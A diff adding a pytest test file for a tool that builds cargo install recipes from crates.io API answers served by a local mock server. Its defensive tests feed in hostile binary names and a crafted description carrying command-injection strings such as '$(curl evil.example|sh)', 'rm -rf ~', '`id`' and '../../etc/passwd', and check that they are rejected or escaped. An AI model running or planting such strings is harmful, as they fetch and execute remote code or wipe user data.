@@ -1,0 +1,320 @@
+"""The cargo builder against a local server answering as the crates.io API does."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from pytest_httpserver import HTTPServer
+
+from recipeline_generator import CargoBuilder, default_registry
+from recipeline_generator.cargo import newest_version, semver_key
+from recipeline_schema import Failure, Recipe, parse_recipe_toml, recipe_from_toml, recipe_to_toml
+from recipeline_schema.http import HttpClient
+
+FIXTURES = Path(__file__).resolve().parents[3] / ".." / "shared" / "fixtures" / "tsuku" / "recipes"
+
+
+def crate_doc(
+    name: str,
+    versions: list[dict[str, Any]] | None,
+    *,
+    description: str | None = "Recursively searches directories for a regex pattern",
+    homepage: str | None = None,
+    repository: str | None = "https://github.com/example/tool",
+) -> dict[str, Any]:
+    """A ``/api/v1/crates/<name>`` answer in crates.io's shape."""
+    doc: dict[str, Any] = {
+        "crate": {
+            "id": name,
+            "name": name,
+            "description": description,
+            "homepage": homepage,
+            "repository": repository,
+            "documentation": None,
+            "max_version": versions[0]["num"] if versions else "0.0.0",
+        },
+        "keywords": [],
+        "categories": [],
+    }
+    if versions is not None:
+        doc["versions"] = versions
+    return doc
+
+
+def version(
+    num: str, bins: list[str] | None, *, yanked: bool = False, has_lib: bool | None = False
+) -> dict[str, Any]:
+    """One version object as crates.io lists it."""
+    return {"num": num, "yanked": yanked, "bin_names": bins, "has_lib": has_lib, "crate_size": 1000}
+
+
+@pytest.fixture
+def crates(httpserver: HTTPServer) -> Iterator[HTTPServer]:
+    """The local server, 404 for anything not served."""
+    httpserver.no_handler_status_code = 404
+    yield httpserver
+    httpserver.clear()
+
+
+@pytest.fixture
+def cargo(http: HttpClient, crates: HTTPServer) -> CargoBuilder:
+    """A cargo builder pointed at the local server's ``/api/v1``."""
+    return CargoBuilder(http, api_url=crates.url_for("/api/v1"))
+
+
+def serve(server: HTTPServer, name: str, doc: dict[str, Any]) -> None:
+    server.expect_request(f"/api/v1/crates/{name}").respond_with_json(doc)
+
+
+def recipe_of(result: Recipe | Failure) -> Recipe:
+    assert isinstance(result, Recipe), result
+    return result
+
+
+def failure_of(result: Recipe | Failure) -> Failure:
+    assert isinstance(result, Failure), result
+    return result
+
+
+def test_recipe_from_the_newest_stable_non_yanked_version(cargo: CargoBuilder, crates: HTTPServer) -> None:
+    serve(
+        crates,
+        "ripgrep",
+        crate_doc(
+            "ripgrep",
+            [
+                version("15.0.0-beta.1", ["rg", "rg-beta"]),
+                version("14.2.0", ["rg", "evil"], yanked=True),
+                version("14.1.1", ["rg"]),
+                version("9.0.0", ["old"]),
+            ],
+        ),
+    )
+
+    text = recipe_to_toml(recipe_of(cargo.generate("ripgrep", name="ripgrep")))
+
+    assert text == (
+        "[metadata]\n"
+        'name = "ripgrep"\n'
+        'description = "Recursively searches directories for a regex pattern"\n'
+        'homepage = "https://github.com/example/tool"\n'
+        "\n"
+        "[[steps]]\n"
+        'action = "cargo_install"\n'
+        'crate = "ripgrep"\n'
+        'executables = ["rg"]\n'
+        "\n"
+        "[verify]\n"
+        'command = "rg --version"\n'
+        'pattern = "{version}"\n'
+    )
+
+
+def test_uses_the_identifier_not_the_queue_name(cargo: CargoBuilder, crates: HTTPServer) -> None:
+    serve(crates, "fd-find", crate_doc("fd-find", [version("10.0.0", ["fd"])], homepage="https://fd.example"))
+
+    recipe = cargo.generate("fd-find", name="fd")
+
+    assert isinstance(recipe, Recipe)
+    assert recipe.name == "fd" and recipe.steps[0].params["crate"] == "fd-find"
+    assert recipe.homepage == "https://fd.example"
+    assert [req.path for req, _ in crates.log] == ["/api/v1/crates/fd-find"]
+
+
+def test_prerelease_only_crate_uses_its_newest_prerelease(cargo: CargoBuilder, crates: HTTPServer) -> None:
+    serve(
+        crates,
+        "pre",
+        crate_doc("pre", [version("1.0.0-alpha.2", ["b"]), version("1.0.0-alpha.10", ["a"])]),
+    )
+
+    recipe = cargo.generate("pre", name="pre")
+
+    assert isinstance(recipe, Recipe) and recipe.steps[0].params["executables"] == ("a",)
+
+
+def test_versions_and_bin_names_from_the_older_endpoints(cargo: CargoBuilder, crates: HTTPServer) -> None:
+    serve(crates, "legacy", crate_doc("legacy", None))
+    crates.expect_request("/api/v1/crates/legacy/versions").respond_with_json(
+        {"versions": [{"num": "2.0.0", "yanked": False}, {"num": "1.0.0", "yanked": False}], "meta": {}}
+    )
+    crates.expect_request("/api/v1/crates/legacy/2.0.0").respond_with_json(
+        {"version": version("2.0.0", ["zeta", "alpha", "legacy"])}
+    )
+
+    recipe = cargo.generate("legacy", name="legacy")
+
+    assert isinstance(recipe, Recipe)
+    assert recipe.steps[0].params["executables"] == ("alpha", "legacy", "zeta")
+    assert recipe.verify is not None and recipe.verify.command == "legacy --version"
+
+
+def test_library_crate_is_library_only(cargo: CargoBuilder, crates: HTTPServer) -> None:
+    serve(crates, "serde", crate_doc("serde", [version("1.0.0", [], has_lib=True)]))
+
+    failure = failure_of(cargo.generate("serde", name="serde"))
+
+    assert (failure.category, failure.subcategory) == ("deterministic_insufficient", "library_only")
+    assert failure.package_id == "cargo:serde" and not failure.transient
+
+
+def test_no_bin_names_without_lib_facts_is_binary_discovery_failed(
+    cargo: CargoBuilder, crates: HTTPServer
+) -> None:
+    serve(crates, "odd", crate_doc("odd", [version("1.0.0", None, has_lib=None)]))
+
+    failure = failure_of(cargo.generate("odd", name="odd"))
+
+    assert failure.subcategory == "binary_discovery_failed"
+    assert "no bin_names" in failure.message
+
+
+def test_everything_yanked_is_archive_extraction_failed(cargo: CargoBuilder, crates: HTTPServer) -> None:
+    serve(crates, "gone", crate_doc("gone", [version("1.0.0", ["gone"], yanked=True)]))
+
+    failure = failure_of(cargo.generate("gone", name="gone"))
+
+    assert failure.subcategory == "archive_extraction_failed"
+
+
+def test_no_https_homepage_fails_without_subcategory(cargo: CargoBuilder, crates: HTTPServer) -> None:
+    doc = crate_doc("plain", [version("1.0.0", ["plain"])], repository="http://example.com/plain")
+    doc["crate"]["homepage"] = crates.url_for("/crates/plain")  # the registry's own page
+    serve(crates, "plain", doc)
+
+    failure = failure_of(cargo.generate("plain", name="plain"))
+
+    assert (failure.category, failure.subcategory) == ("deterministic_insufficient", None)
+    assert "homepage" in failure.message
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    ["../../etc/passwd", 'x"; rm -rf ~; "', "two\nlines", "$(curl evil.example|sh)", "a b", "`id`"],
+)
+def test_hostile_bin_names_fail_the_crate(cargo: CargoBuilder, crates: HTTPServer, hostile: str) -> None:
+    serve(crates, "trap", crate_doc("trap", [version("1.0.0", ["good", hostile])]))
+
+    failure = failure_of(cargo.generate("trap", name="trap"))
+
+    assert failure.subcategory == "binary_discovery_failed"
+    assert "\n" not in failure.message and "not a safe executable name" in failure.message
+
+
+def test_hostile_description_is_escaped_in_toml(cargo: CargoBuilder, crates: HTTPServer) -> None:
+    nasty = 'line one\n[[steps]]\naction = "run_command"\ncommand = "rm -rf ~" """ \x00'
+    serve(crates, "quiet", crate_doc("quiet", [version("1.0.0", ["quiet"])], description=nasty))
+
+    recipe = cargo.generate("quiet", name="quiet")
+
+    assert isinstance(recipe, Recipe)
+    parsed = parse_recipe_toml(recipe_to_toml(recipe))
+    assert [step["action"] for step in parsed["steps"]] == ["cargo_install"]
+    assert "\n" not in parsed["metadata"]["description"] and "\x00" not in parsed["metadata"]["description"]
+
+
+@pytest.mark.parametrize("identifier", ["../etc", "a/b", "x;y", "-flag", "name with space"])
+def test_hostile_crate_names_are_not_handled(
+    cargo: CargoBuilder, crates: HTTPServer, identifier: str
+) -> None:
+    assert not cargo.can_build(identifier)
+    failure = failure_of(cargo.generate(identifier, name="x"))
+    assert failure.subcategory == "unsupported_source"
+    assert crates.log == []
+
+
+def test_unknown_crate_is_api_error_not_found(cargo: CargoBuilder, crates: HTTPServer) -> None:
+    failure = failure_of(cargo.generate("nothing-here", name="nothing-here"))
+
+    assert (failure.category, failure.subcategory, failure.transient) == ("api_error", "not_found", False)
+    assert crates.url_for("/") not in failure.message
+
+
+@pytest.mark.parametrize(
+    "doc",
+    [
+        [1, 2, 3],
+        {"no_crate": {}},
+        crate_doc("bad", [version("1.0.0", ["ok"])])
+        | {"versions": [{"num": "1.0.0", "yanked": False, "bin_names": "rg"}]},
+    ],
+)
+def test_malformed_answers_are_bad_response(cargo: CargoBuilder, crates: HTTPServer, doc: Any) -> None:
+    crates.expect_request("/api/v1/crates/bad").respond_with_json(doc)
+
+    failure = failure_of(cargo.generate("bad", name="bad"))
+
+    assert (failure.category, failure.subcategory, failure.transient) == ("api_error", "bad_response", True)
+
+
+def test_rate_limited_answer_is_rate_limited(cargo: CargoBuilder, crates: HTTPServer) -> None:
+    crates.expect_request("/api/v1/crates/busy").respond_with_data(
+        "slow down", status=429, headers={"Retry-After": "3600"}
+    )
+
+    failure = failure_of(cargo.generate("busy", name="busy"))
+
+    assert (failure.subcategory, failure.transient) == ("rate_limited", True)
+
+
+def test_semver_precedence() -> None:
+    order = ["1.0.0-alpha", "1.0.0-alpha.1", "1.0.0-alpha.beta", "1.0.0-beta.2", "1.0.0-beta.11", "1.0.0"]
+    keys = [semver_key(v) for v in order]
+    assert all(k is not None for k in keys)
+    assert sorted(order, key=lambda v: semver_key(v) or (0, 0, 0, 0, ())) == order
+    assert semver_key("1.0") is None and semver_key("01.0.0") is None
+    assert semver_key("1.2.3+build.5") == semver_key("1.2.3")
+    chosen = newest_version([{"num": "2.0.0", "yanked": None}, {"num": "1.0.0", "yanked": False}])
+    assert chosen is not None and chosen["num"] == "1.0.0", "a version not clearly un-yanked is skipped"
+
+
+def test_same_answers_give_byte_identical_recipes(http: HttpClient, crates: HTTPServer) -> None:
+    serve(crates, "multi", crate_doc("multi", [version("3.1.4", ["zz", "multi", "aa", "multi"])]))
+    first = recipe_to_toml(
+        recipe_of(CargoBuilder(http, api_url=crates.url_for("/api/v1")).generate("multi", name="multi"))
+    )
+    second = recipe_to_toml(
+        recipe_of(CargoBuilder(http, api_url=crates.url_for("/api/v1")).generate("multi", name="multi"))
+    )
+
+    assert first == second
+    assert 'executables = ["aa", "multi", "zz"]' in first
+
+
+def test_api_base_from_the_environment_override(
+    http: HttpClient, crates: HTTPServer, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("RECIPELINE_CARGO_URL", crates.url_for("/api/v1/"))
+    serve(crates, "envtool", crate_doc("envtool", [version("1.0.0", ["envtool"])]))
+
+    recipe = default_registry(http, index_url="http://127.0.0.1:9/simple/").get("cargo")
+
+    assert recipe is not None
+    assert isinstance(recipe.generate("envtool", name="envtool"), Recipe)
+
+
+@pytest.mark.parametrize("fixture", ["a/add-determinism.toml", "c/cargo-audit.toml"])
+def test_step_has_the_shape_of_tsuku_recipes(cargo: CargoBuilder, crates: HTTPServer, fixture: str) -> None:
+    path = FIXTURES / fixture
+    if not path.is_file():
+        pytest.skip(f"tsuku fixtures not present at {FIXTURES}")
+    real = recipe_from_toml(path.read_text(encoding="utf-8"), str(path))
+    real_step = real.steps[0]
+    crate = real_step.params["crate"]
+    serve(
+        crates, crate, crate_doc(crate, [version("1.0.0", list(reversed(real_step.params["executables"])))])
+    )
+
+    ours = cargo.generate(crate, name=real.name)
+
+    assert isinstance(ours, Recipe)
+    assert ours.actions == real.actions == ("cargo_install",)
+    assert dict(ours.steps[0].params) == {
+        "crate": crate,
+        "executables": tuple(real_step.params["executables"]),
+    }
+    assert ours.verify is not None and real.verify is not None
+    assert ours.verify.command == real.verify.command
